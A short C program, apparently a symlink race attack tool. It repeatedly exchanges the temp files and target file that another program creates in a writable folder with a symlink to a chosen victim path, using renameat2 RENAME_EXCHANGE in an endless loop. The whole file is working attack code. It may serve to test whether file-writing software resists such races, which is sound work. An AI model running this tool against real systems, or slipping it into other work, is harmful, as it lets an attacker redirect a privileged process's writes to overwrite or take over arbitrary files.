/* Whoever may write to FOLDER: exchanges what is made there for the file NAME, or beside it, for a link to VICTIM, as
 * fast as it can. Usage: swap FOLDER NAME VICTIM ; goes on until it is killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int count, char **words) {
  const char *made[] = {"%s/.%s.mayfly", "%s/.%s.new", "%s/.%s.new/s", "%s/%s"};
  char path[4096], link[4096];
  if (count != 4) return 2;
  snprintf(link, sizeof link, "%s/link", words[1]);
  if (symlink(words[3], link)) { perror("symlink"); return 2; }
  puts("ready");
  fflush(stdout);
  for (;;)
    for (int i = 0; i < 4; i++) {
      snprintf(path, sizeof path, made[i], words[1], words[2]);
      syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    }
}
